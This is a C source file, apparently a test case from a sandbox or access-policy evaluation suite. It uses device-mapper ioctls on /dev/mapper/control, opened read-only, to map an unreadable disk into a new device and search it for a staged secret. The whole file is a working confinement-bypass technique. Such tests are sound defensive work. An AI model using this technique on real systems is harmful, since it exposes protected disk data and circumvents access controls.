// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G2, G4. Has device-mapper make a second disk of one that it may not read, by a control device
 * that it opened for reading. Source: 6.12 survey, "dm table reload"; drivers/md/dm-ioctl.c, which
 * asks for CAP_SYS_ADMIN and for nothing else. Control: the secret on the disk is read.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/dm-ioctl.h>
#include <stddef.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include "attack.h"
#include "files.h"

static struct {
	struct dm_ioctl head;
	struct dm_target_spec target;
	char words[64];
} request;

static void control(int fd, unsigned long command)
{
	memset(&request.head, 0, sizeof(request.head));
	request.head.version[0] = DM_VERSION_MAJOR;
	request.head.data_size = sizeof(request);
	request.head.data_start = offsetof(__typeof__(request), target);
	strcpy(request.head.name, "lab");
	if (command == DM_TABLE_LOAD) {
		request.head.target_count = 1;
		request.target.length = 32768;
		strcpy(request.target.target_type, "linear");
		strcpy(request.words, "7:5 0");
	}
	if (ioctl(fd, command, &request)) {
		const int error = errno;

		if (command != DM_DEV_REMOVE && command != DM_DEV_CREATE)
			control(fd, DM_DEV_REMOVE);
		no_effect(error);
	}
}

static bool holds_secret(const char *path)
{
	static char bytes[1 << 20];
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	bool found = false;

	while (fd >= 0 && !found && read(fd, bytes, sizeof(bytes)) == sizeof(bytes))
		found = memmem(bytes, sizeof(bytes), STAGE_SECRET, strlen(STAGE_SECRET)) != NULL;
	if (fd >= 0)
		close(fd);
	return found;
}

void attack(void)
{
	int fd, error;
	bool done;

	stage("raw-disk");
	fd = open("/dev/mapper/control", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		no_effect(errno);
	control(fd, DM_DEV_CREATE);
	control(fd, DM_TABLE_LOAD);
	control(fd, DM_DEV_SUSPEND);
	done = holds_secret("/dev/dm-0");
	error = errno;
	control(fd, DM_DEV_REMOVE);
	if (done)
		effect();
	no_effect(error);
}
